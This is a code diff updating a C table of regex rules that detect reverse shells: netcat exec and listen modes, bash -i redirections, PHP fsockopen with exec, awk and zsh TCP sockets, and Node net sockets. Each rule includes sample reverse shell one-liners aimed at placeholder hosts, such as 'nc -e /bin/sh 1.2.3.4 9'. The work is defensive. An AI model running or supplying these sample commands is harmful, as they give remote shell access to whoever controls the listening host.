@@ -11,15 +11,16 @@ static const symbi_skill_rule rules[] = {
      "\\b(?:ba|z|k|da)?sh\\s+-i\\b\\s*(?:.*\\s)?(?:\\d*>&|\\d*<&|\\d?<>|&>|\\|)",
      SYMBI_SKILL_CRITICAL, { "bash -i >& /tmp/p 0>&1", "sh -i 5<> /tmp/s 0<&5" }, { "bash -i", "ssh -i key host" }, 0 },
     { "netcat-shell", "reverse-shell", "Netcat hands out a shell",
-     "\\b(?:nc|ncat|netcat)(?:\\.exe)?[ \\t].*\\B(?:-\\w*[ec]|--(?:sh-|lua-)?exec)\\s*=?\\s*[\"\\x27]?(?:/\\S*/)?(?:(?:ba|z|k|da)?sh\\b|cmd|powershell|pwsh|"
-     "python|perl)",
+     "\\bnc\\.(?:traditional|openbsd)\\b.*-[ec]|\\b(?:nc|ncat|netcat)(?:\\.exe)?[ \\t].*\\B(?:-\\w*[ec]|--(?:sh-|lua-)?exec)\\s*=?\\s*[\"\\x27]?(?:/\\S*/)?("
+     "?:(?:ba|z|k|da)?sh\\b|cmd|powershell|pwsh|python|perl)",
      SYMBI_SKILL_CRITICAL, { "nc -e /bin/sh 1.2.3.4 9", "ncat 1.2.3.4 9 --exec /bin/bash", "nc -nv 1.2.3.4 9 -e/bin/sh" }, { "nc -z host 22", "sync the cmd-exec bash" }, 0 },
     { "netcat-listen", "reverse-shell", "Netcat waits for connections",
      "\\b(?:nc|ncat|netcat)\\s+(?:-\\w+\\s+(?:\\d+\\s+)?)*-\\w*l\\w*(?:\\s|$)",
      SYMBI_SKILL_HIGH, { "nc -lvnp 4444", "ncat -k -l 9" }, { "nc -z host 22", "rsync -l a b" }, 0 },
     { "netcat-connect", "reverse-shell", "Netcat connects to a host",
-     "\\b(?:nc|ncat|netcat)\\s+(?:-(?:[a-y]+\\s+(?:\\d+\\s+)?|-\\S+\\s+))*(?:\\d{1,3}(?:\\.\\d{1,3}){3}|[a-z0-9-]+(?:\\.[a-z0-9-]+)+|localhost|"
-     "\\$\\{?\\w+\\}?)\\s+(?:\\d{1,5}|\\$\\{?\\w+\\}?)(?:$|[^\\w.])",
+     "\\b(?:nc|ncat|netcat)\\s+(?:-(?:[a-y]+\\s+(?:\\d+\\s+)?|-\\S+\\s+))*(?:\\d{1,3}(?:\\.\\d{1,3}){3}|[a-z0-9-]+(?:\\.[a-z0-9-]+)+|\\$\\{?\\w+\\}?)\\s+(?:"
+     "\\d{1,5}|\\$\\{?\\w+\\}?)(?:$|[^\\w.])|(?:^|[;&|]\\s*|\\$\\s+)(?:nc|ncat|netcat)\\s+(?:-[a-y]+\\s+(?:\\d+\\s+)?)*[a-z][\\w.-]*\\s+\\d{1,5}\\s*(?:$|[;&"
+     "|<>])",
      SYMBI_SKILL_HIGH, { "nc 1.2.3.4 80", "nc -w 3 a.example 4444" }, { "Use nc -z host 22 to test", "async a.b 5", "sync to 10.0 5" }, 0 },
     { "netcat-file", "reverse-shell", "Something is sent through netcat",
      "\\b(?:nc|ncat|netcat)\\s+[^|;&]*<\\s*[\"\\x27]?[/~$\\w.]|\\|\\s*(?:nc|ncat|netcat)\\s+(?:-\\S+\\s+)*[\\w.$\\{}-]+\\s+[\\d$]",
@@ -55,8 +56,8 @@ static const symbi_skill_rule rules[] = {
     { "php-reverse-shell", "reverse-shell", "A PHP program joins a socket and a shell",
      "\\b(?:p?fsockopen|stream_socket_client)\\b.*\\b(?:exec|shell_exec|system|passthru|popen|proc_open)\\b",
      SYMBI_SKILL_CRITICAL, { "php -r '$s=fsockopen(\"1.2.3.4\",9);exec(\"sh <&3\");'" }, { "fsockopen(\"mail.example\", 25)" }, 0 },
-    { "awk-socket", "reverse-shell", "awk opens a network connection",
-     "/inet[46]?/(?:tcp|udp)/",
+    { "awk-socket", "reverse-shell", "A shell, awk or a terminal opens a network connection",
+     "/inet[46]?/(?:tcp|udp)/|\\bztcp\\b|\\bzsh/net/tcp\\b|\\bxterm\\s+(?:-\\S+\\s+)*-display\\s+\\S",
      SYMBI_SKILL_CRITICAL, { "awk 'BEGIN{s=\"/inet/tcp/0/1.2.3.4/9\"}'" }, { "inet 10.0.0.1" }, 0 },
     { "node-reverse-shell", "reverse-shell", "A Node program joins a socket and a shell",
      "(?:\\bnet\\.(?:connect|socket|createconnection)\\b|\\brequire\\s*\\(\\s*[\"\\x27]?(?:node:)?net[\"\\x27]?\\s*\\)).*\\b(?:spawn|exec|child_process|/bin"
